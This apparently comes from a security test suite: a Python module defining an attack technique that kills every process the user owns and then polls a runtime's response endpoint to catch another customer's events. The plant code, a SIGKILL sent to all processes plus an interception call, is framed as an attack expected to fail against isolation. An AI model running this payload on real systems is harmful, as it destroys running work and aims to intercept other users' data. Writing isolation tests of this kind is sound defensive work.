"""Kills every other process of the user, and polls for events instead of the runtime."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.payloads import CLIENT
from dayfly.lab.gauntlet.technique import Technique

PLANT = (
    CLIENT
    + """
import signal
try: os.kill(-1, signal.SIGKILL)
except ProcessLookupError: pass
call("POST", mine + "/response", "1")
skim(4)
"""
)

TECHNIQUE = Technique(
    level="L2",
    attack=("T1557", "T1574"),
    family="M5",
    must_fail_to="receive a later customer's event",
    plant=PLANT,
    evidence=Cards(),
    resets=True,
    process="contained",
    timeout_s=3,
    spoils=True,
    may_lose=1,
)
